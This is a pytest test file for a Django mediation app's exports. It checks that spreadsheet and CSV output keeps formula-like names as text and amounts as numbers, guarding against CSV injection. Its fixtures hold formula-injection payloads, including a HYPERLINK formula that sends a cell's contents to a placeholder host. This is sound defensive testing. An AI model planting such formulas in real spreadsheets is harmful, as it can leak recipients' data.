"""Every spreadsheet the product writes shows a would-be formula as the text it is (OWASP "CSV injection").

Read back with openpyxl as an office's spreadsheet program would open them: the cell holds the
characters typed at intake, typed as a string, never a formula; amounts stay numbers.
"""
from __future__ import annotations

import dataclasses
import io

import openpyxl
import pytest
from django.urls import reverse

from mediation.reports import ledger
from mediation.services import EmployerInput, PersonInput, case_register
from mediation.spreadsheets import csv_text, formula_like
from tests.documents.test_export import read_zip
from tests.factories import register, registration, valid_credit_code, valid_id_number

LINK = '=HYPERLINK("http://example.invalid/?x="&C2,"点此核对")'
HOSTILE = [LINK, "+86 138", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_case(world):
    data = dataclasses.replace(
        registration(world.town_a, employer=EmployerInput(name="@SUM(A1:A9)有限公司", credit_code=valid_credit_code()),
                     dispute_summary="=1+1 拖欠工资"),
        applicants=[PersonInput(name=LINK, id_number=valid_id_number(), phone="13805740000")])
    return case_register(actor=world.mediator_a, data=data)


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


def _cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_rule_names_every_start_a_spreadsheet_reads_as_a_formula():
    assert all(formula_like(v) for v in HOSTILE)
    assert not any(formula_like(v) for v in ("王建军", "12000", 12000, None, "2026-01-05"))
    assert csv_text(LINK) == "'" + LINK and csv_text("王建军") == "王建军" and csv_text(7) == 7


def test_the_ledger_keeps_a_formula_like_name_as_text_and_amounts_as_numbers(world, hostile_case):
    result = ledger.ledger_export(user=world.supervisor_a, filters=None)
    cells = _cells(result.file.read())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert LINK in texts and "@SUM(A1:A9)有限公司" in texts and "=1+1 拖欠工资" in texts
    assert 12000 in {c.value for c in cells if c.data_type == "n"}


def test_the_monthly_table_keeps_a_formula_like_organisation_name_as_text(world, client, hostile_case):
    world.town_a.short_name = "=1+1街道"
    world.town_a.save()
    client.force_login(world.district_supervisor)
    response = client.get(reverse("reports:monthly_xlsx"))
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content) if response.streaming else response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_the_case_file_manifest_marks_formula_like_text(world, client, settings, media):
    settings.DOCUMENTS_EXPORT_WORKERS = 1
    world.town_a.case_number_prefix = "=锦调"
    world.town_a.save()
    case = register(world.mediator_a, world.town_a)
    assert case.number.startswith("=")
    client.force_login(world.supervisor_a)
    response = client.post(reverse("documents:export"), {"state": "", "received_from": "", "received_to": ""})
    manifest, _files = read_zip(b"".join(response.streaming_content))
    assert [row["case"] for row in manifest] == ["'" + case.number]
